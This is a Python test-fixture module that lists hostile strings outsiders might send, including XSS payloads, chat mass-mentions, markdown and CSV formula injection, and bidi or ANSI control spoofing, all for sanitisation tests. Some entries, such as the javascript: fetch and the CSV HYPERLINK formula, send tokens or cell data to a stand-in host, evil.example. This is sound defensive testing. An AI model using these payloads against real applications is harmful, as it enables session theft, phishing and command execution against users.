"""Hostile strings outsiders can send, for the tests of every path into every sink."""

from __future__ import annotations

import re

# What outsiders send: request paths, commit messages, branch names, incident names, feed
# titles. Each one goes through every path into every sink (tests/test_safe_text.py,
# tests/test_outside_text_paths.py).
HOSTILE = {
    "script": "<script>alert(document.cookie)</script>",
    "handler": '"><img src=x onerror="alert(1)">',
    "javascript": "javascript:fetch('//evil.example/?t='+sessionStorage.getItem('t'))",
    "data_url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "slack": "<!channel> <https://evil.example/login|Vercel: re-authenticate here> <@U0123ABC>",
    "slack_here": "<!here|here> <!subteam^S123> ping",
    "discord": "@everyone @here <@123456789012345678> <@&987654321098765432>",
    "markdown_link": "[Vercel login](https://evil.example/login) ![b](http://evil.example/b.png)",
    "markdown_break": "ok |\n# Heading\n> quote\n![b](http://evil.example/p.png)\n| x |",
    "csv_formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "csv_plus": "+cmd|' /C calc'!A0",
    "csv_minus": "-2+3+cmd|' /C calc'!A0",
    "csv_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "nul": "before\x00after\x07bell\x08",
    "bidi": "/admin\u202egnp.exe \u2066isolated\u2069 \u200fmark\u200e",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "separators": "line\u2028para\u2029next\r\nwindows\ttab",
    "huge": "A" * 1_000_000,
}
BIDI_OR_CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]"
)
